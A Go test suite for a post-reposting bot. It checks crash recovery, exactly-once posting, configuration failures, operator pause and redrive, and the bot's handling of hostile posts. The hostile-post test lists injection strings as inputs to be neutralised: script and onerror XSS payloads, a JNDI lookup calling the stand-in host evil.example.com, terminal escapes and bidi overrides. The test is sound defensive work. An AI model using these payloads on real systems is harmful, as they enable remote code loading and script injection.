package reliability_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"example.com/superbots/integration/local/paramstore"
	"example.com/superbots/pkg/rewrite"
)

// TestScenario plays the faults of docs/reliability.md in which processes die
// or calls go wrong. Those in which time matters are in integration/simulation,
// under the same name.
func TestScenario(t *testing.T) {
	for _, test := range []struct {
		name string
		env  vars
		play func(t *testing.T, w *world)
	}{
		{"02_tick_three_hours_late", nil, func(t *testing.T, w *world) {
			w.sayMany(1)
			run := w.invoke(time.Now().Add(-3 * time.Hour))
			if run.Report.Stopped != "late event" {
				t.Errorf("report %+v, want a late event", run.Report)
			}
			if got := w.seen(); len(got) > 0 {
				t.Errorf("it called %q", got)
			}
		}},
		{"06_killed_between_found_and_intent", nil, func(t *testing.T, w *world) {
			w.killAt(transact, 2, false)
			if got := w.X.Calls()["create"]; got != 0 {
				t.Errorf("%d posts sent, want none", got)
			}
			if got := w.tick(); got.Posted != 2 { // there is no lease to wait for
				t.Errorf("the run after: %+v, want 2 posted", got)
			}
		}},
		{"07_killed_between_intent_and_send", nil, func(t *testing.T, w *world) {
			w.afterKill(w.killAt(transact, 2, true), 1, "posted")
		}},
		{"07_killed_while_sending", nil, func(t *testing.T, w *world) {
			w.afterKill(w.killAt(create, 1, false), 1, "posted")
		}},
		{"08_killed_between_send_and_confirm", nil, func(t *testing.T, w *world) {
			w.afterKill(w.killAt(create, 1, true), 0, "posted looked up")
		}},
		{"08_killed_while_confirming", nil, func(t *testing.T, w *world) {
			w.afterKill(w.killAt(transact, 3, false), 0, "posted looked up")
		}},
		{"16_refused_in_unknown_words", nil, func(t *testing.T, w *world) {
			source := w.sayMany(1)[0]
			w.at(create, 1, false, saidBefore)
			w.tick()
			w.wantState(source, "dead refused")
			w.wantPosted(0)
		}},
		{"16_refused_in_unknown_words_after_an_unknown_outcome", nil, func(t *testing.T, w *world) {
			source := w.sayMany(1)[0]
			w.at(create, 1, false, lose)
			w.at(create, 2, false, saidBefore)
			w.tick()
			w.wantState(source, "posting")
			w.later(time.Hour)
			w.tick()
			w.wantState(source, "dead unknown")
			if got := w.count(create); got != 2 {
				t.Errorf("%d posts sent, want 2", got)
			}
		}},
		{"18_token_rotated_while_warm", nil, func(t *testing.T, w *world) {
			w.sayMany(1)
			w.tick()
			w.Rotate(superman)
			w.say("serverless 2", 0)
			got := w.tick()
			if got.Posted != 1 || got.Config.Refreshes != 1 {
				t.Errorf("report %+v, want 1 posted after one read of the settings", got)
			}
			w.wantPosted(2)
		}},
		{"19_answer_of_the_intent_lost", nil, func(t *testing.T, w *world) {
			w.sayMany(2)
			w.at(transact, 2, true, lose)
			if got := w.tick(); got.Posted != 2 || got.Stopped != "" {
				t.Errorf("report %+v, want 2 posted by the same run", got)
			}
			if got := w.count(batchGet); got != 1 {
				t.Errorf("rows were read %d times, want once: nobody else wrote them", got)
			}
			w.wantPosted(2)
			for _, r := range w.rows() {
				if r.Control != nil && r.Control.Day.Posts != 2 {
					t.Errorf("the day counts %d posts, want 2", r.Control.Day.Posts)
				}
			}
		}},
		{"20_ledger_down_after_the_send", nil, func(t *testing.T, w *world) {
			source := w.sayMany(1)[0]
			w.at(create, 1, true, func(http.ResponseWriter, []byte) bool {
				w.at(transact, 0, false, lose)
				return true
			})
			w.fail("LedgerError")
			post := w.X.Posts(w.Accounts[superman].ID)[0].ID
			if said := strings.Join(w.said, "\n"); !strings.Contains(said, fmt.Sprintf(`"post":"%d"`, post)) {
				t.Errorf("the post's id is not in the log:\n%s", said)
			}
			w.wantState(source, "posting")
			w.clear()
			w.finish()
			w.wantState(source, "posted looked up")
			w.wantPosted(1)
		}},
		{"26_parameters_throttled_while_warm", vars{"CONFIG_TTL": "1ms"}, func(t *testing.T, w *world) {
			w.tick()
			w.Parameters.Fail(paramstore.Fault{Op: getParameters, Case: paramstore.Throttle})
			w.sayMany(1)
			if got := w.tick(); got.Posted != 1 || !got.Config.Stale {
				t.Errorf("report %+v, want 1 posted with the old settings", got)
			}
		}},
		{"26_parameters_throttled_for_too_long", vars{"CONFIG_TTL": "1ms", "CONFIG_MAX_STALE": "1ms"}, func(t *testing.T, w *world) {
			w.tick()
			w.Parameters.Fail(paramstore.Fault{Op: getParameters, Case: paramstore.Throttle})
			w.noSettings(t)
		}},
		{"26_parameters_throttled_at_a_cold_start", nil, func(t *testing.T, w *world) {
			w.Parameters.Fail(paramstore.Fault{Op: getParameters, Case: paramstore.Throttle})
			w.noSettings(t)
		}},
		{"27_access_denied_while_warm", vars{"CONFIG_TTL": "1ms"}, func(t *testing.T, w *world) {
			w.tick()
			w.Parameters.Deny(superman, "/superbots/dev/superman/")
			w.noSettings(t)
		}},
		{"31_connection_closed_on_a_post", nil, func(t *testing.T, w *world) {
			source := w.sayMany(1)[0]
			w.at(create, 1, false, lose)
			if got := w.tick(); got.Unknown != 1 || got.Stopped != "unknown outcome" {
				t.Errorf("report %+v, want 1 unknown", got)
			}
			if got := w.count(create); got != 1 {
				t.Errorf("the post was sent %d times, want once", got)
			}
			w.wantState(source, "posting")
			w.finish()
			w.wantPosted(1)
		}},
		{"31_redirect_to_another_host", nil, func(t *testing.T, w *world) {
			var elsewhere atomic.Int64
			other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { elsewhere.Add(1) }))
			defer other.Close()
			source := w.sayMany(1)[0]
			w.at(create, 1, false, func(answer http.ResponseWriter, _ []byte) bool {
				answer.Header().Set("Location", other.URL+"/2/tweets")
				answer.WriteHeader(http.StatusTemporaryRedirect)
				return false
			})
			if got := w.tick(); got.Stopped != "account: redirect" {
				t.Errorf("report %+v, want it stopped by the redirect", got)
			}
			if n, sent := elsewhere.Load(), w.count(create); n != 0 || sent != 1 {
				t.Errorf("the other host saw %d requests and X %d, want 0 and 1", n, sent)
			}
			w.wantState(source, "pending forbidden")
			w.finish()
			w.wantPosted(1)
		}},
		{"32_hostile_posts", vars{"BOT_QUERY": "serverless", "BOT_POSTS_PER_RUN": "100", "BOT_POSTS_PER_DAY": "100"}, hostile},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			test.play(t, start(t, test.env))
		})
	}
}

// killAt kills the function, which has two posts to make, at the nth call of a
// name: before it has an effect, or when it has had it but is not answered. It
// returns the source of the first post.
func (w *world) killAt(call string, n int, answered bool) uint64 {
	w.t.Helper()
	first := w.sayMany(2)[0]
	w.at(call, n, answered, w.kill)
	w.fail("Runtime.ExitError")
	return first
}

// afterKill goes on from a kill in the middle of the first post. The run right
// after leaves that one alone. Later it is looked up, sent if it was not there,
// and ends in state.
func (w *world) afterKill(first uint64, sent int, state string) {
	w.t.Helper()
	w.clear()
	if got := w.tick(); got.Unknown != 1 || got.Posted != 1 || w.count(timeline) != 0 {
		w.t.Errorf("the run after: %+v, want the second posted and 1 unknown", got)
	}
	w.finish()
	if got := w.count(create); got != 1+sent {
		w.t.Errorf("%d posts sent after the kill, want %d", got, 1+sent)
	}
	w.wantState(first, state)
	w.wantPosted(2)
}

// noSettings does a run without settings: it neither asks X nor writes.
func (w *world) noSettings(t *testing.T) {
	t.Helper()
	w.sayMany(1)
	w.clear()
	w.fail("ConfigError")
	for _, call := range w.seen() {
		if call != getParameters && call != query {
			t.Errorf("it called %s", call)
		}
	}
}

// saidBefore refuses a post in words that X has not used yet.
func saidBefore(answer http.ResponseWriter, _ []byte) bool {
	answer.WriteHeader(http.StatusForbidden)
	io.WriteString(answer, `{"title":"Forbidden","status":403,"detail":"You have said that before."}`)
	return false
}

// hostile puts posts in front of the bot that were written to harm. Each is
// skipped or becomes a text that does none.
func hostile(t *testing.T, w *world) {
	other := "evil.example.com"
	for i, text := range []string{
		"serverless @everyone @ana look",
		"serverless ＠everyone look",
		"serverless \u202e gnihtemos \u2066 hidden \u200b@ana",
		"serverless \x1b[2J\x1b]0;title\x07 cleared",
		"serverless <script>alert(1)</script>",
		"serverless <img src=x onerror=alert(1)> &lt;b&gt;",
		"serverless https://" + other + "/login?next=x",
		"serverless " + strings.Repeat(other+"/a ", 2000),
		"serverless " + strings.Repeat("https://"+other+" ", 2000),
		"serverless " + strings.Repeat("a", 100<<10),
		"serverless " + strings.Repeat("\u0301", 300),
		"serverless and BROKEN bytes",
		"serverless e\u0301vil.example.com \u2028 line",
		"serverless $AAPL $AMZN",
		"serverless {{.}} %s %n ${jndi:ldap://" + other + "}",
		"serverless\x00 zero",
		"rt@serverless.com serverless",
	} {
		w.say(text, time.Duration(20-i)*time.Minute)
	}
	w.at(search, 1, true, func(answer http.ResponseWriter, body []byte) bool {
		answer.Write(bytes.ReplaceAll(body, []byte("BROKEN"), []byte("\xff\xfe\xc0")))
		return false
	})
	got := w.tick()
	skipped := 0
	for _, n := range got.Skipped {
		skipped += n
	}
	posts := w.X.Posts(w.Accounts[superman].ID)
	if got.Found != 17 || got.Dead != 0 || got.Posted+skipped != 17 || got.Posted != len(posts) {
		t.Errorf("report %+v, want 17 found, each posted or skipped", got)
	}
	if len(posts) < 5 {
		t.Errorf("%d posts, want some", len(posts))
	}
	for _, p := range posts {
		text := p.Text
		odd := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl) })
		switch {
		case !utf8.ValidString(text), odd >= 0:
			t.Errorf("%q has characters that show nothing", text)
		case strings.ContainsAny(text, "@＠"):
			t.Errorf("%q mentions somebody", text)
		case rewrite.WithoutLinks(text) != text:
			t.Errorf("%q has a link", text)
		case rewrite.Weight(text) > rewrite.MaxWeight:
			t.Errorf("%q weighs %d", text, rewrite.Weight(text))
		}
	}
	for _, line := range w.said {
		if strings.ContainsAny(line, "\x1b\u202e") || len(line) > 64<<10 {
			t.Errorf("a log line of %d bytes, or with characters that a terminal obeys: %.200q", len(line), line)
		}
	}
}

// TestKilledAtEveryCall kills a run that finds and makes two posts at each of
// its calls, before and after the call has had its effect.
func TestKilledAtEveryCall(t *testing.T) {
	whole := start(t, nil)
	whole.sayMany(2)
	whole.tick()
	calls := whole.seen()
	if len(calls) != 11 {
		t.Fatalf("an undisturbed run made the calls %q, want 11", calls)
	}
	nth := make(map[string]int)
	for _, call := range calls {
		nth[call]++
		for _, answered := range []bool{false, true} {
			n := nth[call]
			t.Run(fmt.Sprintf("%s %d %v", strings.ReplaceAll(call, "/", " "), n, answered), func(t *testing.T) {
				t.Parallel()
				w := start(t, nil)
				w.killAt(call, n, answered)
				w.clear()
				w.tick()
				w.finish()
				w.wantPosted(2)
				for id, state := range w.states() {
					if !strings.HasPrefix(state, "posted") {
						t.Errorf("source %d is %q", id, state)
					}
				}
			})
		}
	}
}

// A bot that an operator has paused does nothing until it is resumed.
func TestPause(t *testing.T) {
	t.Parallel()
	w := start(t, nil)
	w.sayMany(2)
	w.operate("ledger", "pause", superman)
	for range 2 {
		if got := w.tick(); got.Stopped != "paused" {
			t.Errorf("report %+v, want it paused", got)
		}
	}
	if got := slices.Compact(slices.Sorted(slices.Values(w.seen()))); !cmp.Equal(got, []string{getParameters, query}) {
		t.Errorf("a paused bot called %q, want its settings and its ledger alone", got)
	}
	if got := w.operate("ledger", "show", superman); !strings.Contains(got, "paused") {
		t.Errorf("the ledger shows %q", got)
	}
	w.operate("ledger", "resume", superman)
	if got := w.tick(); got.Posted != 2 {
		t.Errorf("report %+v, want 2 posted", got)
	}
}

// A dead post whose outcome is unknown is looked up when it is redriven, and
// sent only if it is not there.
func TestRedrive(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		there bool
		state string
	}{
		"it was posted": {true, "posted looked up"},
		"it was not":    {false, "posted"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := start(t, nil)
			source := w.sayMany(1)[0]
			w.at(create, 0, test.there, lose)
			w.at(timeline, 0, true, func(answer http.ResponseWriter, _ []byte) bool { // as if X did not show it yet
				io.WriteString(answer, `{"meta":{"result_count":0}}`)
				return false
			})
			for range 3 {
				w.tick()
				w.later(time.Hour)
			}
			w.wantState(source, "dead unknown")
			w.clear()

			w.operate("ledger", "redrive", superman, fmt.Sprint(source))
			w.finish()
			w.wantState(source, test.state)
			w.wantPosted(1)
		})
	}
}
